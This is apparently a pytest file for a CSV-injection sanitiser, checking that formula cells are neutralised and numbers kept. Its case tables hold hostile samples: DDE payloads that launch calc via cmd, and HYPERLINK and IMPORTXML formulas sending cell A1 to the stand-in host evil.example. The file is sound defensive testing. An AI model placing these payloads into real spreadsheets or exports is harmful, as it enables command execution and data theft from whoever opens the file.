"""CSV injection: formula cells are neutralised, numbers stay numbers.

The table follows OWASP's CSV injection page (leading ``=`` ``+`` ``-`` ``@``, tab and carriage
return, DDE payloads) and the defusedcsv library's rules (``|`` and ``%`` too, pipes escaped), plus
blanks a spreadsheet may skip before the formula character."""

import csv
import io
from decimal import Decimal

import pytest

from safety.csv import safe_cell, text_cell, writer

# (cell text, what goes into the CSV)
OWASP_CASES = [
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),  # tab
    ("\tx", "'\tx"),
    ("\r=1+1", "'\r=1+1"),  # carriage return
    ("\rx", "'\rx"),
    ("|cmd", "'\\|cmd"),  # pipe first: a DDE call
    ("%0A-1+1", "'%0A-1+1"),
    (" =1+1", "' =1+1"),  # blanks before the formula character
    ("   @cmd", "'   @cmd"),
    ("\xa0=1", "'\xa0=1"),  # no-break space
    ("\u3000=1+1", "'\u3000=1+1"),  # ideographic space (Chinese input)
    ("\u200b=1", "'\u200b=1"),  # zero-width space
    ("\ufeff+1+1", "'\ufeff+1+1"),
    ("\n=1+1", "'\n=1+1"),
    # DDE payloads: the apostrophe makes them text, the pipes are escaped as well
    ("=cmd|' /C calc'!A0", "'=cmd\\|' /C calc'!A0"),
    ("+cmd|' /C calc'!A0", "'+cmd\\|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd\\|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd\\|' /C calc'!A0"),
    ("=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "'=DDE(\"cmd\";\"/C calc\";\"!A0\")A0"),
    ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")"),
    ("=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
     "'=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")"),
]


@pytest.mark.parametrize(("text", "written"), OWASP_CASES)
def test_owasp_csv_injection_cases_are_neutralised(text: str, written: str) -> None:
    assert safe_cell(text) == written
    assert text_cell(text) == written


@pytest.mark.parametrize(("value", "written"), [
    ("-3", "-3"), ("-12.5", "-12.5"), ("+2", "+2"), ("3", "3"), ("12.5", "12.5"), ("-0.25", "-0.25"),
    ("1e3", "1e3"), (" -3", " -3"), (-3, -3), (-12.5, -12.5), (Decimal("-1.5"), Decimal("-1.5")), (0, 0),
    ("a|b", "a|b"), ("x@example.org", "x@example.org"), ("50%", "50%"), ("3-2", "3-2"), ("王小明", "王小明"),
])
def test_numbers_and_plain_text_are_written_as_they_are(value: object, written: object) -> None:
    assert safe_cell(value) == written


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\")", "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1", "-", "=",
                                  "-1e5x", "+-1"])
def test_cells_a_spreadsheet_would_run_are_prefixed(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "-3.5", "+2", "-0.25", "1e3", "-1E-2", -3, -3.5, Decimal("-1.5"), 0])
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["Alice", "张三", "a=b", "", "3-2"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_the_writer_neutralises_every_cell_and_round_trips() -> None:
    """A neutralised DDE payload has its pipe escaped too (``\\|``, as defusedcsv does): since issue 29."""
    out = io.StringIO()
    w = writer(out)
    w.writerow(["name", "points"])
    w.writerows([["=cmd|' /C calc'!A0", -5], ["Bob", "-10"], [None, True]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "points"], ["'=cmd\\|' /C calc'!A0", "-5"], ["Bob", "-10"], ["", "True"]]
